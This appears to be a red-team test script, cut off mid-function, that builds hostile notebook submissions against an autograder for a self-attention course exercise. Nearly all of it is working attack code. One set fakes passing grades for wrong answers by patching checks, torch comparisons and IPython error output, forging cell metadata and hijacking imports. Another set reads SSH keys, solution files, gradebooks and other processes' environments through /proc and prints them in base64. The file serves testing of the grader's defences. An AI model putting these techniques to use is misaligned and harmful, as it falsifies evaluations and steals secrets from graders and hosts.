"""Build the hostile submissions of notebook 05 (attacker's view only).

python tests/grading/redteam_blind/build_attacks.py [--student-notebook PATH]

Each attack starts from the released student notebook, puts WRONG answers in every answer
cell and adds attack code. Writes attacks/<name>.ipynb and attacks/manifest.json.
The runner imports WRONG / build_notebook to make the two controls.
"""
import argparse
import copy
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
ATTACKS_DIR = os.path.join(HERE, "attacks")
STUDENT_NB = "/work/attack/notebooks/05_self_attention.ipynb"

# ---------------------------------------------------------------- wrong answers
WRONG = {
    "table_scores": "machines_scores = [0.0, 0.0, 0.0, 0.0]\nprint(machines_scores)\n",
    "table_scaled": "machines_scaled = [0.0, 0.0, 0.0, 0.0]\nprint(machines_scaled)\n",
    "table_weights": "machines_weights = torch.zeros(4, dtype=torch.float64)\n"
                     "print(machines_weights, \"sum =\", float(machines_weights.sum()))\n",
    "table_weighted": "machines_weighted_values = torch.zeros(4, 2, dtype=torch.float64)\nprint(machines_weighted_values)\n",
    "table_z": "z_machines = torch.zeros(2, dtype=torch.float64)\nprint(z_machines)\n",
    "attention_scores": "def attention_scores(Q, K):\n    return torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype, device=Q.device)\n",
    "softmax": "def softmax(x, dim=-1):\n    return torch.zeros_like(x)\n",
    "self_attention": "def self_attention(Q, K, V, mask=None):\n"
                      "    w = torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype, device=Q.device)\n"
                      "    return w @ V, w\n",
    "causal_mask": "def causal_mask(n):\n    return torch.zeros(n, n, dtype=torch.bool)\n",
    "space_invader": "space_invader_weights = torch.zeros(4, 4, dtype=torch.float64)\nprint(space_invader_weights)\n",
    "brown_dog": "brown_dog_weights = torch.zeros(4, dtype=torch.float64)\nprint(brown_dog_weights)\n",
}
ANSWER_ORDER = list(WRONG)
WRITTEN_WRONG = "The weights get smaller and the gradient gets bigger."  # deliberately wrong

# ---------------------------------------------------------------- shared attack helpers
PRELUDE = r'''
import os, sys, base64, json, signal, time, glob
def _rt_b64(label, data, cap=400000):
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    data = data[:cap]
    print("RTB64[%s]:%s" % (label, base64.b64encode(data).decode()))
def _rt_hex(label, data, cap=20000):
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    print("RTHEX[%s]:%s" % (label, data[:cap].hex()))
def _rt_res(key, value):
    print("RT-RESULT[%s]=%s" % (key, value))
def _rt_procs():
    out = []
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                cmd = open("/proc/%s/cmdline" % p, "rb").read().replace(b"\0", b" ").decode("utf-8", "replace")
            except Exception:
                continue
            out.append((int(p), cmd))
    return out
def _rt_grader_pids():
    return [p for p, c in _rt_procs() if "autograder" in c and p != os.getpid()]
def _rt_canary_pids():
    return [p for p, c in _rt_procs() if "redteam-canary-proc" in c]
def _rt_grader_paths():
    """(submissions dir, out dir, cwd, HOME) of the grading command, from /proc."""
    res = []
    for p in _rt_grader_pids():
        try:
            argv = open("/proc/%d/cmdline" % p, "rb").read().split(b"\0")
            argv = [a.decode() for a in argv]
        except Exception:
            continue
        if "grade" not in argv:
            continue
        i = argv.index("grade")
        subs = argv[i + 2] if len(argv) > i + 2 else None
        out = argv[argv.index("--out") + 1] if "--out" in argv else None
        try:
            cwd = os.readlink("/proc/%d/cwd" % p)
        except Exception:
            cwd = None
        home = None
        try:
            for kv in open("/proc/%d/environ" % p, "rb").read().split(b"\0"):
                if kv.startswith(b"HOME="):
                    home = kv[5:].decode()
        except Exception:
            pass
        if subs and cwd and not subs.startswith("/"):
            subs = os.path.join(cwd, subs)
        if out and cwd and not out.startswith("/"):
            out = os.path.join(cwd, out)
        res.append((p, subs, out, cwd, home))
    return res
'''


def base_notebook(path=STUDENT_NB):
    with open(path) as f:
        return json.load(f)


def _gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def build_notebook(student_nb, answers=None, prefix=None, suffix=None, written=WRITTEN_WRONG,
                   extra_last_code=None, blank=False):
    """answers: grade_id -> source (defaults to WRONG); prefix/suffix: grade_id -> code added
    before/after the wrong answer; extra_last_code: replaces the ungraded last code cell (section 8)."""
    nb = copy.deepcopy(student_nb)
    if blank:
        return nb
    answers = dict(WRONG, **(answers or {}))
    prefix, suffix = prefix or {}, suffix or {}
    for cell in nb["cells"]:
        g = _gid(cell)
        if g in answers:
            cell["source"] = prefix.get(g, "") + answers[g] + suffix.get(g, "")
            cell["outputs"] = []
        elif g == "why_scale" and written is not None:
            cell["source"] = written
        elif extra_last_code is not None and cell["cell_type"] == "code" and \
                "".join(cell["source"]).startswith("import torch.nn.functional as F"):
            cell["source"] = extra_last_code
    return nb


def code_cell(src, metadata=None):
    return {"cell_type": "code", "execution_count": None, "metadata": metadata or {}, "outputs": [],
            "source": src}


# ---------------------------------------------------------------- the attacks
ATTACKS = []


def attack(name, cls, desc, writes=()):
    def deco(fn):
        ATTACKS.append({"name": name, "class": cls, "desc": desc, "fn": fn, "writes": list(writes)})
        return fn
    return deco


FIRST = "table_scores"
ALL_CHECKS_FAKE = r'''
def _rt_fake(*a, **k):
    print("✔ correct")
    return None
'''


@attack("f01_rebind_checks", "forge", "rebind `checks` and every checks.check_* to no-ops; sys.modules entry replaced")
def _(nb):
    code = PRELUDE + ALL_CHECKS_FAKE + r'''
import types
_real = sys.modules["course_lib.checks.self_attention"]
class _FakeChecks(types.ModuleType):
    def __getattr__(self, n):
        if n.startswith("check"):
            return _rt_fake
        return getattr(_real, n)
_fc = _FakeChecks("course_lib.checks.self_attention")
for _n in dir(_real):
    if _n.startswith("check"):
        setattr(_real, _n, _rt_fake)
sys.modules["course_lib.checks.self_attention"] = _fc
import course_lib.checks
course_lib.checks.self_attention = _fc
checks = _fc
'''
    again = "checks = _fc\nfor _n in dir(_real):\n    if _n.startswith('check'): setattr(_real, _n, _rt_fake)\n"
    return build_notebook(nb, prefix=dict({g: again for g in ANSWER_ORDER}, **{FIRST: code}))


@attack("f02_code_swap", "forge", "swap __code__ of every function in the checks module (and course_lib helpers) for a no-op")
def _(nb):
    code = PRELUDE + r'''
import types
def _rt_swap():
    n_ok = 0
    noop = (lambda *a, **k: None).__code__
    for modname, mod in list(sys.modules.items()):
        if not modname.startswith("course_lib") or mod is None:
            continue
        if modname in ("course_lib.data", "course_lib.viz", "course_lib.device"):
            continue
        for name, obj in list(vars(mod).items()):
            fns = [obj]
            if isinstance(obj, type):
                fns = [v for v in vars(obj).values() if isinstance(v, types.FunctionType)]
            for f in fns:
                if isinstance(f, types.FunctionType) and f.__module__ == modname and not f.__code__.co_freevars:
                    if name.startswith(("check", "_check", "assert", "_assert", "verdict", "_fail", "fail", "expect", "compare", "_compare")) or modname.startswith("course_lib.checks") or modname == "course_lib.grading.answers":
                        if name in ("thinking_machines",):
                            continue
                        try:
                            f.__code__ = noop
                            n_ok += 1
                        except Exception:
                            pass
    return n_ok
print("swapped", _rt_swap())
'''
    again = "_rt_swap()\n"
    return build_notebook(nb, prefix=dict({g: again for g in ANSWER_ORDER}, **{FIRST: code}))


@attack("f03_torch_patch", "forge", "patch torch.allclose/equal/isclose/testing.assert_close, Tensor.__eq__, numpy/math isclose to always agree")
def _(nb):
    code = PRELUDE + r'''
import torch, numpy, math, torch.testing
def _rt_patch():
    torch.allclose = lambda *a, **k: True
    torch.equal = lambda *a, **k: True
    torch.isclose = lambda a, b, *x, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
    torch.testing.assert_close = lambda *a, **k: None
    torch.testing.assert_allclose = lambda *a, **k: None
    torch.Tensor.allclose = lambda *a, **k: True
    torch.Tensor.equal = lambda *a, **k: True
    numpy.allclose = lambda *a, **k: True
    numpy.testing.assert_allclose = lambda *a, **k: None
    math.isclose = lambda *a, **k: True
    import builtins
    builtins.abs = lambda x: 0
_rt_patch()
'''
    return build_notebook(nb, prefix=dict({g: "_rt_patch()\n" for g in ANSWER_ORDER}, **{FIRST: code}))


LIAR = r'''
import torch
class _Liar:
    """Every comparison says yes, every arithmetic returns itself."""
    shape = property(lambda s: _LiarShape())
    dtype = torch.float64
    device = torch.device("cpu")
    def __eq__(s, o): return True
    def __ne__(s, o): return False
    __lt__ = __le__ = __gt__ = __ge__ = lambda s, o: True
    def __bool__(s): return True
    def __float__(s): return 0.0
    def __int__(s): return 0
    def __index__(s): return 0
    def __len__(s): return 4
    def __iter__(s): return iter([_Liar() for _ in range(4)])
    def __getitem__(s, k): return _Liar()
    def __getattr__(s, n): return lambda *a, **k: _Liar()
    def __call__(s, *a, **k): return _Liar()
    def __hash__(s): return 0
    def __repr__(s): return "tensor(ok)"
    def __torch_function__(s, func, types, args=(), kwargs=None):
        return True if func in (torch.allclose, torch.equal) else _Liar()
    for _op in ("add radd sub rsub mul rmul truediv rtruediv matmul rmatmul neg abs pow and or invert").split():
        locals()["__%s__" % _op] = lambda s, *a: _Liar()
class _LiarShape(tuple):
    def __new__(c): return tuple.__new__(c, (4,))
    def __eq__(s, o): return True
    def __ne__(s, o): return False
    def __getitem__(s, k): return 4
    def __hash__(s): return 0
'''


@attack("f04_liar_objects", "forge", "answers are objects whose ==, comparisons, shape and torch ops all say 'equal'")
def _(nb):
    answers = {g: WRONG[g] for g in WRONG}
    for g, var in [("table_scores", "machines_scores"), ("table_scaled", "machines_scaled"),
                   ("table_weights", "machines_weights"), ("table_weighted", "machines_weighted_values"),
                   ("table_z", "z_machines"), ("space_invader", "space_invader_weights"),
                   ("brown_dog", "brown_dog_weights")]:
        answers[g] = "%s = _Liar()\nprint(%s)\n" % (var, var)
    answers["attention_scores"] = "def attention_scores(Q, K):\n    return _Liar()\n"
    answers["softmax"] = "def softmax(x, dim=-1):\n    return _Liar()\n"
    answers["self_attention"] = "def self_attention(Q, K, V, mask=None):\n    return _Liar(), _Liar()\n"
    answers["causal_mask"] = "def causal_mask(n):\n    return _Liar()\n"
    return build_notebook(nb, answers=answers, prefix={FIRST: PRELUDE + LIAR})


@attack("f05_torch_function_subclass", "forge", "wrong answers as a Tensor subclass whose __torch_function__ makes allclose/eq/sub/abs report a match")
def _(nb):
    pre = PRELUDE + r'''
import torch
class _Sly(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name in ("isclose", "eq", "__eq__"):
            a = args[0]
            return torch.ones(torch.Size(a.shape), dtype=torch.bool)
        if name in ("ne", "__ne__"):
            return torch.zeros(torch.Size(args[0].shape), dtype=torch.bool)
        if name in ("sub", "__sub__", "__rsub__"):
            return torch.zeros(torch.Size(args[0].shape), dtype=torch.float64)
        if name in ("abs", "max", "amax", "norm", "sum", "mean"):
            return torch.tensor(0.0, dtype=torch.float64)
        with torch._C.DisableTorchFunctionSubclass():
            r = func(*args, **kwargs)
        return r.as_subclass(_Sly) if isinstance(r, torch.Tensor) else r
def _sly(t):
    return torch.as_tensor(t).as_subclass(_Sly)
'''
    answers = {}
    for g, src in WRONG.items():
        answers[g] = src
    for g, var in [("table_scores", "machines_scores"), ("table_scaled", "machines_scaled"),
                   ("table_weights", "machines_weights"), ("table_weighted", "machines_weighted_values"),
                   ("table_z", "z_machines"), ("space_invader", "space_invader_weights"),
                   ("brown_dog", "brown_dog_weights")]:
        answers[g] = WRONG[g].split("\n")[0] + "\n%s = _sly(torch.as_tensor(%s, dtype=torch.float64))\nprint(%s)\n" % (var, var, var)
    answers["attention_scores"] = "def attention_scores(Q, K):\n    return _sly(torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype))\n"
    answers["softmax"] = "def softmax(x, dim=-1):\n    return _sly(torch.zeros_like(x))\n"
    answers["self_attention"] = "def self_attention(Q, K, V, mask=None):\n    w = torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype)\n    return _sly(w @ V), _sly(w)\n"
    answers["causal_mask"] = "def causal_mask(n):\n    return _sly(torch.zeros(n, n, dtype=torch.bool))\n"
    return build_notebook(nb, answers=answers, prefix={FIRST: pre})


@attack("f06_showtraceback", "forge", "silence errors: IPython showtraceback/_showtraceback (instance and class), sys.excepthook, CustomTB for every exception")
def _(nb):
    code = PRELUDE + r'''
from IPython import get_ipython
import IPython.core.interactiveshell as _ish
def _rt_silence():
    ip = get_ipython()
    quiet = lambda *a, **k: print("✔ correct")
    ip.showtraceback = quiet
    ip._showtraceback = lambda *a, **k: None
    ip.showsyntaxerror = quiet
    type(ip).showtraceback = quiet
    type(ip)._showtraceback = lambda *a, **k: None
    _ish.InteractiveShell.showtraceback = quiet
    ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: print("✔ correct"))
    sys.excepthook = lambda *a: None
_rt_silence()
'''
    return build_notebook(nb, prefix=dict({g: "_rt_silence()\n" for g in ANSWER_ORDER}, **{FIRST: code}))


@attack("f07_input_transformers", "forge", "input transformers (cleanup/post) and an AST transformer rewrite every test cell to print('✔ correct') / wrap it in try/except")
def _(nb):
    code = PRELUDE + r'''
import ast
from IPython import get_ipython
def _rt_tf(lines):
    src = "".join(lines)
    if "checks." in src and "Check my answer" in src or "HIDDEN" in src or "assert" in src:
        return ['print("\u2714 correct")\n']
    return lines
class _RTAst(ast.NodeTransformer):
    def visit_Module(self, node):
        body = node.body
        h = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=body or [ast.Pass()], handlers=[h], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
def _rt_install():
    ip = get_ipython()
    for lst in (ip.input_transformers_cleanup, ip.input_transformers_post):
        if _rt_tf not in lst:
            lst.insert(0, _rt_tf)
    try:
        ip.input_transformer_manager.cleanup_transforms.insert(0, _rt_tf)
    except Exception:
        pass
    if not any(isinstance(t, _RTAst) for t in ip.ast_transformers):
        ip.ast_transformers.append(_RTAst())
_rt_install()
'''
    return build_notebook(nb, prefix=dict({g: "_rt_install()\n" for g in ANSWER_ORDER}, **{FIRST: code}))


@attack("f08_audit_hook_toggle", "forge", "sys.addaudithook (cannot be removed): patch the checks when a test cell compiles, put them back when the guard's report cell compiles")
def _(nb):
    code = PRELUDE + r'''
import ast
_rt_mod = sys.modules["course_lib.checks.self_attention"]
_rt_orig = {n: getattr(_rt_mod, n) for n in dir(_rt_mod) if n.startswith("check")}
def _rt_fake(*a, **k):
    print("\u2714 correct")
_rt_busy = [False]
def _rt_hook(ev, args):
    if ev != "compile" or _rt_busy[0]:
        return
    _rt_busy[0] = True
    try:
        s = args[0]
        if isinstance(s, bytes):
            s = s.decode("utf-8", "replace")
        elif not isinstance(s, str):
            try:
                s = ast.unparse(s)
            except Exception:
                s = ""
        if "__course_guard_report" in s or "__course_guard_restore" in s:
            for n, f in _rt_orig.items():
                setattr(_rt_mod, n, f)
        elif "checks.check" in s:
            for n in _rt_orig:
                setattr(_rt_mod, n, _rt_fake)
    finally:
        _rt_busy[0] = False
sys.addaudithook(_rt_hook)
'''
    return build_notebook(nb, prefix={FIRST: code})


@attack("f09_guard_memory_dig", "forge", "gc: find every dict/list/closure cell holding the real check functions (the guard's saved originals) and swap in fakes; neuter __course_guard_* via __code__")
def _(nb):
    code = PRELUDE + r'''
import gc, types, builtins
_rt_mod = sys.modules["course_lib.checks.self_attention"]
def _rt_fake(*a, **k):
    print("\u2714 correct")
def _rt_dig():
    orig = {}
    for n in dir(_rt_mod):
        if n.startswith("check"):
            orig[id(getattr(_rt_mod, n))] = n
    hits = 0
    for o in gc.get_objects():
        try:
            if isinstance(o, dict):
                for k, v in list(o.items()):
                    if id(v) in orig:
                        o[k] = _rt_fake; hits += 1
            elif isinstance(o, list):
                for i, v in enumerate(o):
                    if id(v) in orig:
                        o[i] = _rt_fake; hits += 1
            elif isinstance(o, types.FunctionType) and o.__closure__:
                for c in o.__closure__:
                    try:
                        if id(c.cell_contents) in orig:
                            c.cell_contents = _rt_fake; hits += 1
                    except ValueError:
                        pass
        except Exception:
            pass
    # recon + neuter the guard helpers
    for ns in (globals(), vars(builtins)):
        for k, v in list(ns.items()):
            if "course_guard" in k:
                print("guard helper", k, type(v), getattr(getattr(v, "__code__", None), "co_names", None))
    return hits
print("replaced refs:", _rt_dig())
'''
    return build_notebook(nb, prefix=dict({g: "_rt_dig()\n" for g in ANSWER_ORDER}, **{FIRST: code}))


@attack("f10_frame_steal", "forge", "wrong code that walks the caller's frames and returns the checker's own expected tensor")
def _(nb):
    code = PRELUDE + r'''
import torch
def _rt_steal(pred, exclude=()):
    f = sys._getframe(2)
    ex = [id(e) for e in exclude]
    while f is not None:
        try:
            for v in list(f.f_locals.values()):
                cands = v if isinstance(v, (tuple, list)) else (v,)
                for c in cands:
                    if isinstance(c, torch.Tensor) and id(c) not in ex and pred(c):
                        return c.clone()
        except Exception:
            pass
        f = f.f_back
    return None
'''
    answers = dict(WRONG)
    answers["attention_scores"] = ("def attention_scores(Q, K):\n"
        "    shp = tuple(Q.shape[:-1]) + (K.shape[-2],)\n"
        "    r = _rt_steal(lambda t: tuple(t.shape) == shp and t.dtype == Q.dtype, (Q, K))\n"
        "    return r if r is not None else torch.zeros(shp, dtype=Q.dtype)\n")
    answers["softmax"] = ("def softmax(x, dim=-1):\n"
        "    def ok(t):\n"
        "        try:\n"
        "            return t.shape == x.shape and t.is_floating_point() and bool((t >= 0).all()) and torch.allclose(t.sum(dim), torch.ones_like(t.sum(dim)))\n"
        "        except Exception:\n"
        "            return False\n"
        "    r = _rt_steal(ok, (x,))\n"
        "    return r if r is not None else torch.zeros_like(x)\n")
    answers["self_attention"] = ("def self_attention(Q, K, V, mask=None):\n"
        "    oshp = tuple(Q.shape[:-1]) + (V.shape[-1],); wshp = tuple(Q.shape[:-1]) + (K.shape[-2],)\n"
        "    o = _rt_steal(lambda t: tuple(t.shape) == oshp and t.is_floating_point(), (Q, K, V))\n"
        "    w = _rt_steal(lambda t: tuple(t.shape) == wshp and t.is_floating_point(), (Q, K, V))\n"
        "    z = torch.zeros(wshp, dtype=Q.dtype)\n"
        "    return (o if o is not None else z @ V), (w if w is not None else z)\n")
    answers["causal_mask"] = ("def causal_mask(n):\n"
        "    r = _rt_steal(lambda t: t.dtype == torch.bool and tuple(t.shape) == (n, n))\n"
        "    return r if r is not None else torch.zeros(n, n, dtype=torch.bool)\n")
    return build_notebook(nb, answers=answers, prefix={FIRST: code})


@attack("f11_stash_switched_off", "forge", "bypass the 'switched off' PyTorch functions: stash torch.softmax/tril/SDPA and aten ops before the checks, use them in place of an answer")
def _(nb):
    code = PRELUDE + r'''
import torch, torch.nn.functional as _F
_rt_sm = torch.softmax
_rt_aten_sm = torch.ops.aten._softmax.default
_rt_tril = torch.tril
_rt_sdpa = _F.scaled_dot_product_attention
_rt_meth_sm = torch.Tensor.softmax
'''
    answers = dict(WRONG)
    answers["softmax"] = ("def softmax(x, dim=-1):\n"
        "    for f in (lambda: _rt_aten_sm(x, dim, False), lambda: _rt_sm(x, dim), lambda: _rt_meth_sm(x, dim)):\n"
        "        try:\n            return f()\n        except Exception:\n            pass\n"
        "    return torch.zeros_like(x)\n")
    answers["causal_mask"] = "def causal_mask(n):\n    return _rt_tril(torch.ones(n, n)).bool()\n"
    answers["self_attention"] = ("def self_attention(Q, K, V, mask=None):\n"
        "    s = torch.ops.aten.matmul(Q, K.transpose(-2, -1)) * Q.shape[-1] ** -0.5\n"
        "    if mask is not None:\n        s = s.masked_fill(~mask, float('-inf'))\n"
        "    w = _rt_aten_sm(s, -1, False)\n    return w @ V, w\n")
    return build_notebook(nb, answers=answers, prefix={FIRST: code})


@attack("f12_fake_stdout", "forge", "replace print/sys.stdout/stderr so every '✘' verdict line comes out as '✔ correct'")
def _(nb):
    code = PRELUDE + r'''
import builtins, io
class _RTOut(io.TextIOBase):
    def __init__(self, inner): self.inner = inner
    def write(self, s):
        s = s.replace("\u2718", "\u2714 correct").replace("Error", "ok")
        return self.inner.write(s)
    def flush(self): return self.inner.flush()
    def __getattr__(self, n): return getattr(self.inner, n)
def _rt_install():
    if not isinstance(sys.stdout, _RTOut):
        sys.stdout = _RTOut(sys.stdout)
    if not isinstance(sys.stderr, _RTOut):
        sys.stderr = _RTOut(sys.stderr)
    _p = builtins.print
    builtins.print = lambda *a, **k: _p(*[str(x).replace("\u2718", "\u2714") for x in a], **k)
_rt_install()
print("\u2714 correct")
'''
    return build_notebook(nb, prefix=dict({g: "_rt_install()\n" for g in ANSWER_ORDER}, **{FIRST: code}))


@attack("f13_kernel_exit", "forge", "os._exit(0) in the second answer cell: no later cell runs, so no test cell shows an error")
def _(nb):
    return build_notebook(nb, prefix={"table_scaled": "import os\nos._exit(0)\n"})


@attack("f14_base_exceptions", "forge", "answers raise SystemExit/KeyboardInterrupt/GeneratorExit inside the checks; exit()/ask_exit and SIGINT to self during a check")
def _(nb):
    code = PRELUDE + r'''
import torch, signal
class _Boom:
    def __init__(self, exc): self.exc = exc
    def _raise(self, *a, **k): raise self.exc
    __eq__ = __float__ = __len__ = __iter__ = __getitem__ = __array__ = __bool__ = _raise
    def __getattr__(self, n):
        raise self.exc
'''
    answers = dict(WRONG)
    answers["table_scores"] = "machines_scores = _Boom(SystemExit(0))\n"
    answers["table_scaled"] = "machines_scaled = _Boom(KeyboardInterrupt())\n"
    answers["table_weights"] = "machines_weights = _Boom(GeneratorExit())\n"
    answers["table_weighted"] = "machines_weighted_values = _Boom(SystemExit(0))\n"
    answers["table_z"] = "z_machines = _Boom(KeyboardInterrupt())\n"
    answers["attention_scores"] = "def attention_scores(Q, K):\n    raise SystemExit(0)\n"
    answers["softmax"] = "def softmax(x, dim=-1):\n    os.kill(os.getpid(), signal.SIGINT); time.sleep(1)\n    return torch.zeros_like(x)\n"
    answers["self_attention"] = "def self_attention(Q, K, V, mask=None):\n    raise KeyboardInterrupt()\n"
    answers["causal_mask"] = "def causal_mask(n):\n    get_ipython().ask_exit()\n    raise SystemExit(0)\n"
    answers["space_invader"] = "space_invader_weights = _Boom(GeneratorExit())\n"
    answers["brown_dog"] = "brown_dog_weights = _Boom(SystemExit(1))\n"
    return build_notebook(nb, answers=answers, prefix={FIRST: code})


@attack("f15_metadata_forgery", "forge", "edit the locked test cells to `pass` (checksums recomputed-looking), raise their points, add a 100-point bonus grade cell")
def _(nb):
    out = build_notebook(nb)
    import hashlib
    cells = []
    for cell in out["cells"]:
        md = cell.get("metadata", {}).get("nbgrader", {})
        if md.get("grade") and cell["cell_type"] == "code":
            cell["source"] = "pass\n"
            md["points"] = 100.0
            md["checksum"] = hashlib.md5(b"pass").hexdigest()
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "\u2714 correct\n"}]
        if md.get("solution") and cell["cell_type"] == "code":
            md["grade"] = True
            md["points"] = 50.0
        cells.append(cell)
        if md.get("grade_id") == "check_brown_dog":
            cells.append(code_cell("pass\n", {"nbgrader": {"grade": True, "grade_id": "bonus_rt", "points": 100.0,
                                                          "solution": False, "locked": True, "schema_version": 3,
                                                          "task": False, "cell_type": "code", "checksum": "x"},
                                             "tags": ["check-answer"]}))
    out["cells"] = cells
    return out


@attack("f16_import_hijack", "forge", "meta_path finder + builtins.__import__ + importlib.reload hand out a fake checks module on every (re)import")
def _(nb):
    code = PRELUDE + r'''
import builtins, importlib, importlib.abc, importlib.util, types
_rt_fakemod = types.ModuleType("course_lib.checks.self_attention")
_rt_real = sys.modules["course_lib.checks.self_attention"]
for _n in dir(_rt_real):
    setattr(_rt_fakemod, _n, getattr(_rt_real, _n))
for _n in dir(_rt_real):
    if _n.startswith("check"):
        setattr(_rt_fakemod, _n, lambda *a, **k: print("\u2714 correct"))
class _RTFinder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.startswith("course_lib.checks"):
            return importlib.util.spec_from_loader(name, self)
    def create_module(self, spec): return _rt_fakemod
    def exec_module(self, m): pass
sys.meta_path.insert(0, _RTFinder())
_rt_imp = builtins.__import__
def _rt_import(name, *a, **k):
    m = _rt_imp(name, *a, **k)
    if name.startswith("course_lib.checks"):
        sys.modules["course_lib.checks.self_attention"] = _rt_fakemod
    return m
builtins.__import__ = _rt_import
importlib.reload = lambda m: _rt_fakemod if "checks" in getattr(m, "__name__", "") else m
sys.modules["course_lib.checks.self_attention"] = _rt_fakemod
sys.modules["course_lib.checks"].self_attention = _rt_fakemod
checks = _rt_fakemod
'''
    again = "checks = _rt_fakemod\nsys.modules['course_lib.checks.self_attention'] = _rt_fakemod\n"
    return build_notebook(nb, prefix=dict({g: again for g in ANSWER_ORDER}, **{FIRST: code}))


# ------------------------------------------------------------------ class 2: secrets
READ_TARGETS = r'''
def _rt_targets():
    t = ["/root/redteam-canary-secret.txt", os.path.expanduser("~/redteam-home-secret.txt"),
         os.path.expanduser("~/.ssh/id_rsa"),
         "/work/attack/solutions/05_self_attention.ipynb", "/work/attack/solutions/src/05_self_attention.py",
         "/work/main/solutions/05_self_attention.ipynb", "/work/main/solutions/src/05_self_attention.py"]
    for p, subs, out, cwd, home in _rt_grader_paths():
        if home:
            t += [os.path.join(home, "redteam-home-secret.txt"), os.path.join(home, ".ssh/id_rsa")]
        if cwd:
            t += [os.path.join(cwd, "solutions/05_self_attention.ipynb"), os.path.join(cwd, "solutions/src/05_self_attention.py")]
        if subs:
            course = os.path.dirname(subs.rstrip("/"))
            t += [os.path.join(course, "source/05_self_attention/05_self_attention.ipynb"),
                  os.path.join(course, "gradebook.db"), os.path.join(course, "nbgrader_config.py")]
            t += glob.glob(os.path.join(subs, "*/05_self_attention/*.ipynb")) + glob.glob(os.path.join(subs, "*.ipynb"))
    d = os.getcwd()
    for _ in range(6):
        t += [os.path.join(d, "source/05_self_attention/05_self_attention.ipynb"), os.path.join(d, "gradebook.db")]
        d = os.path.dirname(d)
    return list(dict.fromkeys(t))
def _rt_read_all(via_proc_root):
    got = 0
    roots = [""]
    if via_proc_root:
        roots = ["/proc/%d/root" % p for p, _ in _rt_procs() if p != os.getpid()]
    for path in _rt_targets():
        for r in roots:
            try:
                with open(r + path, "rb") as f:
                    data = f.read(400000)
            except Exception as e:
                continue
            _rt_b64("%s%s" % (r, path), data)
            got += 1
            break
    _rt_res("files_read_" + ("proc_root" if via_proc_root else "direct"), got)
'''


@attack("s01_read_files_direct", "secrets", "read the canary files, solutions/, the nbgrader course dir (source/, gradebook.db), other submissions by path; print base64")
def _(nb):
    return build_notebook(nb, prefix={FIRST: PRELUDE + READ_TARGETS + "_rt_read_all(False)\n"})


@attack("s02_proc_root_escape", "secrets", "same files through /proc/<grader pid>/root (the host's mount namespace); print base64 and hex")
def _(nb):
    code = PRELUDE + READ_TARGETS + r'''
_rt_read_all(True)
for _p, _s, _o, _c, _h in _rt_grader_paths():
    try:
        _rt_hex("ls-course", "\n".join(os.listdir("/proc/%d/root%s" % (_p, os.path.dirname(_s.rstrip("/"))))))
    except Exception as e:
        print("no listing", type(e).__name__)
'''
    return build_notebook(nb, prefix={FIRST: code})


@attack("s03_env_and_cmdlines", "secrets", "environment of the kernel and of every process (/proc/*/environ), every cmdline: print the canary variable and the grader's paths (base64)")
def _(nb):
    code = PRELUDE + r'''
_rt_b64("kernel-env-RT", "\n".join("%s=%s" % kv for kv in os.environ.items() if "RT" in kv[0]))
n = 0
for p, c in _rt_procs():
    try:
        env = open("/proc/%d/environ" % p, "rb").read().split(b"\0")
    except Exception:
        continue
    n += 1
    sel = [kv for kv in env if kv.startswith((b"RTBLIND", b"RTCANARY", b"HOME=", b"NBGRADER"))]
    if sel:
        _rt_b64("environ-%d" % p, b"\n".join(sel))
_rt_res("environ_readable", n)
_rt_b64("cmdlines", "\n".join("%d %s" % pc for pc in _rt_procs()))
'''
    return build_notebook(nb, prefix={FIRST: code})


@attack("s04_inherited_fds", "secrets", "read every inherited file descriptor (and the grader's /proc/<pid>/fd/*): print what they point to and their contents")
def _(nb):
    code = PRELUDE + r'''
def _rt_fds(base, label):
    n = 0
    try:
        fds = os.listdir(base)
    except Exception as e:
        print("cannot list", base, type(e).__name__); return 0
    for fd in fds:
        try:
            tgt = os.readlink(os.path.join(base, fd))
        except Exception:
            continue
        print(label, fd, "->", tgt)
        if tgt.startswith("/") and not tgt.startswith(("/dev/", "/proc/")) and not tgt.endswith(".so"):
            try:
                with open(os.path.join(base, fd), "rb") as f:
                    data = f.read(200000)
                if data:
                    _rt_b64("%s-fd%s-%s" % (label, fd, tgt), data); n += 1
            except Exception:
                pass
    return n
n = _rt_fds("/proc/self/fd", "self")
for p in _rt_grader_pids() + [int(x) for x in os.listdir("/proc") if x.isdigit() and int(x) in (os.getppid(),)]:
    n += _rt_fds("/proc/%d/fd" % p, "pid%d" % p)
_rt_res("fd_files_read", n)
rt = os.environ.get("JUPYTER_RUNTIME_DIR", "")
for f in glob.glob(os.path.join(rt, "*.json")) + glob.glob("/root/.local/share/jupyter/runtime/*.json"):
    try:
        _rt_b64("runtime-" + f, open(f, "rb").read())
    except Exception:
        pass
'''
    return build_notebook(nb, prefix={FIRST: code})


@attack("s05_hidden_tests_audit", "secrets", "audit hook records the source of every cell compiled (the hidden tests, the guard cells); dumped base64 in later answer cells and the last cell")
def _(nb):
    code = PRELUDE + r'''
import ast
_RT_SEEN = []
_rt_busy = [False]
def _rt_hook(ev, args):
    if ev not in ("compile", "exec") or _rt_busy[0]:
        return
    _rt_busy[0] = True
    try:
        s = args[0]
        if isinstance(s, bytes):
            s = s.decode("utf-8", "replace")
        elif ev == "compile" and not isinstance(s, str):
            try:
                s = ast.unparse(s)
            except Exception:
                s = ""
        elif ev == "exec":
            co = args[0]
            s = repr(getattr(co, "co_consts", ""))
